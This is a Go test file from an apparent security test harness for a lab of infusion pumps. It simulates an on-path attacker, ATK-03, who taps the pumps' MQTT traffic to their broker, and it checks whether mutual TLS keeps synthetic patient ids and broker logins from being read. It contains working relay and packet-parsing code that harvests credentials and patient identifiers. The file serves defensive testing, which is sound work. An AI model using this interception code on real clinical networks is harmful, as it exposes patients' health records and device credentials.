package scenarios

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/url"
	"sync"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/pumplab/pumplab/harness"
	"github.com/pumplab/pumplab/harness/attack"
	"github.com/pumplab/pumplab/harness/oracle"
	"github.com/pumplab/pumplab/harness/score"
	"github.com/pumplab/pumplab/lab"
)

// tapMax bounds what the tap keeps of one direction of one connection.
const tapMax = 1 << 20

// tap is a passive on-path device: a transparent TCP relay that forwards
// every byte between the pumps and the broker unchanged and keeps a copy of
// each direction of each connection.
type tap struct {
	ln       net.Listener
	upstream string
	mu       sync.Mutex
	streams  []*tapStream
}

// tapStream is the copy of one connection, pump to broker (Up) and broker
// to pump (Down).
type tapStream struct{ Up, Down []byte }

func startTap(ctx context.Context, upstream string) (*tap, error) {
	tg := attack.Loopback()
	ln, err := tg.Listen(ctx, "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	t := &tap{ln: ln, upstream: upstream}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			up, err := tg.Dial(context.WithoutCancel(ctx), "tcp", upstream)
			if err != nil {
				_ = c.Close()
				continue
			}
			s := &tapStream{}
			t.mu.Lock()
			t.streams = append(t.streams, s)
			t.mu.Unlock()
			go t.copy(up, c, &s.Up)
			go t.copy(c, up, &s.Down)
		}
	}()
	return t, nil
}

// copy forwards src to dst, keeping the first tapMax bytes in *keep.
func (t *tap) copy(dst, src net.Conn, keep *[]byte) {
	defer dst.Close()
	defer src.Close()
	buf := make([]byte, 32<<10)
	for {
		n, err := src.Read(buf)
		if n > 0 {
			t.mu.Lock()
			if room := tapMax - len(*keep); room > 0 {
				*keep = append(*keep, buf[:min(n, room)]...)
			}
			t.mu.Unlock()
			if _, werr := dst.Write(buf[:n]); werr != nil {
				return
			}
		}
		if err != nil {
			return // EOF or a closed side: the other direction ends too
		}
	}
}

func (t *tap) Addr() string { return t.ln.Addr().String() }

// copies returns a snapshot of every connection's bytes.
func (t *tap) copies() []tapStream {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]tapStream, len(t.streams))
	for i, s := range t.streams {
		out[i] = tapStream{Up: append([]byte(nil), s.Up...), Down: append([]byte(nil), s.Down...)}
	}
	return out
}

// Close stops accepting; relayed connections end with the pumps' (the
// spec's restore or the lab's close).
func (t *tap) Close() error { return t.ln.Close() }

// tapHarvest is what an analyst gets out of a tap's copies.
type tapHarvest struct {
	Bytes, Packets, Publishes, TLSStreams int
	PHI                                   []string // distinct patient ids
	Creds                                 int      // distinct CONNECT logins
}

// harvest parses the copies as MQTT 3.1.1: CONNECT logins, PUBLISH
// payloads (pump statuses and events up, the pump server's commands down)
// and the patient ids in them. A stream that starts with a TLS handshake
// record (0x16 0x03) is counted as TLS and not parsed further.
func harvest(copies []tapStream) tapHarvest {
	var h tapHarvest
	var connects [][]byte
	var msgs []attack.Message
	for _, s := range copies {
		for _, b := range [][]byte{s.Up, s.Down} {
			h.Bytes += len(b)
			if len(b) >= 2 && b[0] == 0x16 && b[1] == 0x03 {
				h.TLSStreams++
				continue
			}
			for len(b) > 0 {
				p, n, err := attack.ParseMQTTPacket(b)
				if err != nil {
					break
				}
				h.Packets++
				switch {
				case p.Type == attack.MQTTConnect:
					connects = append(connects, p.Raw)
				case p.Publish != nil:
					h.Publishes++
					msgs = append(msgs, attack.Message{Topic: p.Publish.Topic, Payload: p.Publish.Payload})
				}
				b = b[n:]
			}
		}
	}
	h.PHI = fleetPHI(msgs, "")
	h.Creds = oracle.ExposedCredentials(connects)
	return h
}

// ATK-03 Passive sniffing of pump <-> server traffic (REFERENCE.md §3.1):
// an attacker on the device network copies the bytes of the pumps' MQTT
// sessions (a tap or SPAN port on the device network's uplink) and reads
// patient ids and broker logins out of them. In process the tap is a
// transparent relay the lab puts on the pumps' link to the broker
// (lab.LinkPumpsToBroker): it forwards every byte unchanged and keeps a copy.
// Nothing can refuse a passive copy; what stops the harm is that under
// mtls-mqtt the copy is ciphertext. The lab records that as "contained"
// evidence of mtls-mqtt when the pumps reconnect through the relay with
// mutual TLS, and the spec checks it on the bytes: TLS records only, no
// MQTT packet, no patient id, no login. Harm: PHI records and credentials
// exposed.
var _ = Describe("ATK-03 passive sniffing of the pumps' broker traffic", harness.Register("ATK-03", "Passive sniffing of cleartext pump <-> server / HL7 traffic",
	harness.Kind("attack"), harness.Technique("T0842"), harness.Technique("T0887"), harness.Technique("T0882"),
	harness.Area("WL"), harness.Area("AU"), harness.Lifecycle("use"), harness.Target("broker"), harness.Target("pump")), func() {
	f := harness.New("atk-03-passive-sniffing")

	It("reads patient ids and broker logins off the device network", func(ctx SpecContext) {
		w, cancel := f.Context(ctx, f.Timeouts.Therapy)
		defer cancel()
		pumps := f.Lab.Pumps()

		By("two patients on norepinephrine")
		_, err := startNorepinephrine(w, f.Lab, pumps[0], "MRN5503", 250)
		Expect(err).NotTo(HaveOccurred())
		_, err = startNorepinephrine(w, f.Lab, pumps[1], "MRN5504", 250)
		Expect(err).NotTo(HaveOccurred())

		By("the attacker tapping the pumps' link to the broker for two lab minutes")
		b, err := endpoint(f.Lab, "broker")
		Expect(err).NotTo(HaveOccurred())
		bu, err := url.Parse(b)
		Expect(err).NotTo(HaveOccurred())
		tp, err := startTap(w, bu.Host)
		Expect(err).NotTo(HaveOccurred())
		DeferCleanup(tp.Close)
		step := attack.Step{ScenarioID: "ATK-03", StepID: "ATK-03/1", Techniques: []string{"T0842", "T0882"}, Tactic: "TA0102",
			Assets: []string{"broker", pumps[0], pumps[1]}, Correlation: []string{"tap:" + tp.Addr()},
			Criteria: "patient ids or broker logins readable in the copied pump traffic", Control: "mtls-mqtt", Window: 5 * time.Minute}
		var restore func() error
		err = f.Attack(w, step, func(ctx context.Context) error {
			var err error
			if _, restore, err = f.Lab.Network().Interpose(ctx, lab.LinkPumpsToBroker, tp.Addr()); err != nil {
				return fmt.Errorf("interpose: %w", err)
			}
			return sleepLab(ctx, f.Lab, 2*time.Minute)
		})
		if restore != nil {
			DeferCleanup(restore)
		}
		if errors.Is(err, lab.ErrInterposeUnsupported) {
			f.NotApplicable("this lab cannot put a tap on the pumps' link to the broker: " + err.Error())
		}
		Expect(err).NotTo(HaveOccurred())
		h := harvest(tp.copies())
		harm := score.Harm{PHIExposed: len(h.PHI), CredsExposed: h.Creds}
		effect := h.Creds > 0 || len(h.PHI) > 0
		f.Observe(step.StepID, score.Observed{Effect: effect, Harm: harm})
		AddReportEntry("bytes copied", fmt.Sprint(h.Bytes))
		AddReportEntry("streams starting with a TLS handshake", fmt.Sprint(h.TLSStreams))
		AddReportEntry("MQTT packets / PUBLISH read", fmt.Sprintf("%d / %d", h.Packets, h.Publishes))
		AddReportEntry("patient ids read", fmt.Sprint(h.PHI))
		AddReportEntry("broker logins read", fmt.Sprint(h.Creds))
		Expect(h.Bytes).To(BeNumerically(">", 0), "the tap saw the pumps' traffic")

		if f.ControlOn("mtls-mqtt") {
			By("the tap holding only TLS records")
			Eventually(func(g Gomega) {
				ev, err := f.Lab.Evidence(w)
				g.Expect(err).NotTo(HaveOccurred())
				found := false
				for _, e := range ev {
					if e.Control == "mtls-mqtt" && score.IsBlockAction(e.Action) {
						found = true
						AddReportEntry("mtls-mqtt", e.Reason)
					}
				}
				g.Expect(found).To(BeTrue())
			}).WithContext(w).WithPolling(20 * time.Millisecond).Should(Succeed())
			Expect(h.TLSStreams).To(BeNumerically(">", 0))
			Expect(h.Publishes).To(BeZero())
			Expect(effect).To(BeFalse())
			Expect(oracle.Harmful(harm)).To(BeFalse())
			return
		}
		By("the copy giving away both patients and the pumps' broker login")
		Expect(h.PHI).To(ContainElements("MRN5503", "MRN5504"))
		Expect(h.Creds).To(BeNumerically(">=", 1))
		Expect(oracle.Harmful(harm)).To(BeTrue())
	})
})
